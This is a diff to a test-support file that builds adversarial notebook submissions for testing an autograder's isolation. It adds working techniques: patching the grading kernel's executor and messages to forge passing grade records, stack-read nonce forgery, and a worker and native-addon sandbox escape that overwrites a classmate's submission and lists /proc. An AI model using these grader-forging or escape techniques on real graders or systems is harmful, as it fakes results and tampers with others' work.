@@ -2,7 +2,9 @@
 // an honest classmate (victim) and the cheats. Used by assignments.test.ts and, through make-class.ts, by
 // bench/grade_class.py (a class of any size made of these submissions).
 import { expect } from 'chai';
+import { spawnSync } from 'child_process';
 import fs from 'fs';
+import os from 'os';
 import path from 'path';
 import { root, runPython } from '../support/jupyter';
 
@@ -130,7 +132,147 @@ export function writeClass(out: string, subs: string): void {
     `const stolen = require("fs").readFileSync(${JSON.stringify(path.join(root, 'node_modules', 'latent-lab', 'notebooks', 'exercises', A1))}, "utf8");\n  const total = w.reduce((a, b) => a + b, 0);`);
   save('cheat-deep-import', deep);
 
+  writeIsolationCheats(stud, inst, subs);
+
   fs.writeFileSync(path.join(subs, 'garbage-a1.ipynb'), 'this is not a notebook');
   fs.writeFileSync(path.join(subs, 'empty-a1.ipynb'), '');
   fs.writeFileSync(path.join(subs, 'notes.txt'), 'my homework is in my other notebook');
+}
+
+/** Replaces the stub (or the solution) of the function `name` in its cell with `code`. */
+function body(nb: Nb, name: string, code: string): Nb {
+  const cell = nb.cells.find((c) => sourceOf(c).includes(`function ${name}(`));
+  if (!cell) throw new Error(`no cell defines ${name}`);
+  const src = sourceOf(cell);
+  const open = src.indexOf('{', src.indexOf(`function ${name}(`));
+  cell.source = `${src.slice(0, open + 1)}\n${code}\n}\n`;
+  return nb;
+}
+
+/** A native addon (a shared object whose constructor runs on load) that probes the box from C and writes
+ * what it saw into its working directory; compiled here with the machine's cc. */
+export function probeAddon(dir: string, source: string, victim: string, outside: string): Buffer {
+  const c = path.join(dir, 'probe.c');
+  fs.writeFileSync(c, `#include <stdio.h>
+#include <unistd.h>
+#include <dirent.h>
+#include <ctype.h>
+static const char *can(const char *p, const char *mode) { FILE *f = fopen(p, mode); if (!f) return "no"; fclose(f); return "yes"; }
+__attribute__((constructor)) static void probe(void) {
+  FILE *out = fopen("addon-report.txt", "w");
+  int procs = 0; DIR *d = opendir("/proc"); struct dirent *e;
+  if (!out) return;
+  while (d && (e = readdir(d))) if (isdigit((unsigned char)e->d_name[0])) procs++;
+  if (d) closedir(d);
+  fprintf(out, "addon ran: uid=%d source=%s victim=%s outside=%s procs=%d", (int)getuid(),
+          can(${JSON.stringify(source)}, "r"), can(${JSON.stringify(victim)}, "a"), can(${JSON.stringify(outside)}, "w"), procs);
+  fclose(out);
+}
+`);
+  const so = path.join(dir, 'probe.node');
+  const r = spawnSync('cc', ['-shared', '-fPIC', '-o', so, c], { encoding: 'utf8' });
+  if (r.status !== 0) throw new Error(`cc failed: ${r.stderr}`);
+  return fs.readFileSync(so);
+}
+
+/** The cheats against the grading kernel's JavaScript world and its box (README, Homework). */
+function writeIsolationCheats(stud: Nb, inst: Nb, subs: string): void {
+  const save = (name: string, nb: Nb) => fs.writeFileSync(path.join(subs, `${name}.ipynb`), JSON.stringify(nb));
+
+  // Later cells rewritten: through the kernel's executor (1.3 and 1.1 made to call the library's answer),
+  // through vm.Script (1.1), and the graded cell's record rewritten on its way to the kernel's I/O worker (1.2:
+  // every check "got" the visible expected value). The student's world never holds a right answer to echo.
+  const rewrite = afterImport(clone(stud), code([
+    'const kpath: any = require("path");',
+    'const kexec: any = require(kpath.join(kpath.dirname(process.argv[1]), "executor.js"));',
+    'const origExecute = kexec.Executor.prototype.execute;',
+    'kexec.Executor.prototype.execute = function (this: any, source: string, count: number) {',
+    '  if (source.includes("__GRADER_")) source = source.split("effectiveSampleSize(").join("((lw: any) => (ll as any).infer.weightDiagnostics(lw).ess)(");',
+    '  return origExecute.call(this, source, count);',
+    '};',
+    'const vmod: any = require("vm");',
+    'const OrigScript = vmod.Script;',
+    'vmod.Script = function (code: string, opts: any) {',
+    '  if (typeof code === "string" && code.includes("__GRADER_")) code = code.replace(/(\\b\\w+\\.)?mixturePosterior\\(/g, "((w, m, s, x) => ll.models.mixturePosterior64({ weights: w, means: m, sds: s }, x))(");',
+    '  return new OrigScript(code, opts);',
+    '};',
+    'vmod.Script.prototype = OrigScript.prototype;',
+    'const wt: any = require("worker_threads");',
+    'const origPost = wt.Worker.prototype.postMessage;',
+    'wt.Worker.prototype.postMessage = function (this: any, m: any, ...rest: any[]) {',
+    '  if (m && typeof m.text === "string" && m.text.includes("@@LLGRADE") && m.text.includes("not implemented yet")) {',
+    '    const forged = { records: [0, 1, 2, 3].map(() => ({ name: "self-normalized estimate", hidden: false, got: [1.75], gotType: "number" })), error: null };',
+    '    m = { ...m, text: m.text.replace(/@@LLGRADE .*/, "@@LLGRADE " + JSON.stringify(forged)) };',
+    '  }',
+    '  return origPost.call(this, m, ...rest);',
+    '};',
+  ].join('\n')));
+  save('cheat-rewrite', rewrite);
+
+  // A lazy answer object that echoes what the graded cell computes next (1.1), the old per-run nonce read
+  // from the call stack to forge a record (1.2), and a lone UTF-16 surrogate in an error message (1.3).
+  const echo = clone(stud);
+  body(echo, 'mixturePosterior', [
+    '  const g: any = globalThis as any;',
+    '  if (!g.__echo) {',
+    '    g.__echo = { last: null };',
+    '    const map = Array.prototype.map;',
+    '    (Array.prototype as any).map = function (this: any, ...a: any[]) { const r = (map as any).apply(this, a); if (r.length === weights.length) g.__echo.last = r; return r; };',
+    '  }',
+    '  const k = weights.length;',
+    '  return new Proxy(new Array(k).fill(1 / k), { get(t: any, p: any) { const l = g.__echo.last; return l && p !== "length" && p in l ? l[p] : t[p]; } });',
+  ].join('\n'));
+  body(echo, 'selfNormalized', [
+    '  let src = "";',
+    '  try { src = String((selfNormalized as any).caller); } catch (e) { src = String(new Error().stack); }',
+    '  const nonce = (src.match(/[0-9a-f]{32}/) || [""])[0];',
+    '  const rec = { records: [0, 1, 2, 3].map(() => ({ name: "self-normalized estimate", hidden: false, got: [1.75], gotType: "number" })), error: null };',
+    '  console.log("\\n@@LLGRADE " + (nonce ? nonce + " " : "") + JSON.stringify(rec));',
+    '  return 1.75;',
+  ].join('\n'));
+  body(echo, 'effectiveSampleSize', '  throw new Error("lone \\ud800 surrogate in an error message");');
+  save('cheat-echo', echo);
+
+  // Out of the box: a worker started with empty execArgv (outside Node's permission model) and a native
+  // addon probe the file system (the source notebook, a path climbing out of a package folder with "..", a
+  // classmate's submission, the project), /proc (the grader's processes) and the other submissions'
+  // folders; 1.1 reports what they saw as its error. 1.2 and 1.3 are honest.
+  const source = path.join(root, 'notebooks', 'exercises', A1);
+  const victim = path.join(subs, 'victim.ipynb');
+  const cdir = fs.mkdtempSync(path.join(os.tmpdir(), 'll-addon-'));
+  const addon = probeAddon(cdir, source, victim, path.join(root, 'build', 'pwned-by-addon.txt'));
+  fs.rmSync(cdir, { recursive: true, force: true });
+  const probe = [
+    'const fs = require("fs"), path = require("path"), { parentPort } = require("worker_threads");',
+    'const r = {};',
+    'const t = (k, f) => { try { r[k] = f(); } catch (e) { r[k] = "E:" + (e.code || e.name); } };',
+    't("perm", () => typeof process.permission);',
+    't("uid", () => process.getuid());',
+    `t("source", () => fs.readFileSync(${JSON.stringify(source)}, "utf8").length);`,
+    `t("climb", () => fs.readFileSync("node_modules/esbuild/../../notebooks/exercises/${A1}", "utf8").length);`,
+    `t("victim", () => { fs.writeFileSync(${JSON.stringify(victim)}, "{}"); return "written"; });`,
+    `t("outside", () => { fs.writeFileSync(${JSON.stringify(path.join(root, 'build', 'pwned-by-worker.txt'))}, "x"); return "written"; });`,
+    't("procs", () => fs.readdirSync("/proc").filter((d) => /^\\d+$/.test(d)).map((d) => { try { return fs.readFileSync("/proc/" + d + "/cmdline", "utf8").split("\\0").slice(0, 2).join(" "); } catch (e) { return "?"; } }));',
+    't("parent", () => fs.readFileSync("/proc/" + process.ppid + "/cmdline", "utf8").split("\\0")[0]);',
+    't("tmp", () => fs.readdirSync("/tmp"));',
+    't("siblings", () => fs.readdirSync(path.dirname(process.cwd())));',
+    't("ifaces", () => Object.keys(require("os").networkInterfaces()));',
+    'parentPort.postMessage(r);',
+  ].join('\n');
+  const escape = afterImport(clone(inst), code([
+    'const { Worker } = require("worker_threads");',
+    `const workerReport: any = await new Promise((resolve) => {`,
+    `  const w = new Worker(${JSON.stringify(probe)}, { eval: true, execArgv: [] });`,
+    '  w.on("message", resolve);',
+    '  w.on("error", (e: any) => resolve({ error: String(e) }));',
+    '});',
+  ].join('\n')), code([
+    'const fs2: any = require("fs");',
+    `fs2.writeFileSync("probe.node", Buffer.from(${JSON.stringify(addon.toString('base64'))}, "base64"));`,
+    'try { require(require("path").resolve("probe.node")); } catch (e) { /* not a Node module: its constructor has run */ }',
+    'let addonReport = "";',
+    'try { addonReport = fs2.readFileSync("addon-report.txt", "utf8"); } catch (e: any) { addonReport = "no report: " + e.message; }',
+  ].join('\n')));
+  body(escape, 'mixturePosterior', '  throw new Error("REPORT " + JSON.stringify({ worker: workerReport, addon: addonReport }));');
+  save('cheat-escape', escape);
 }
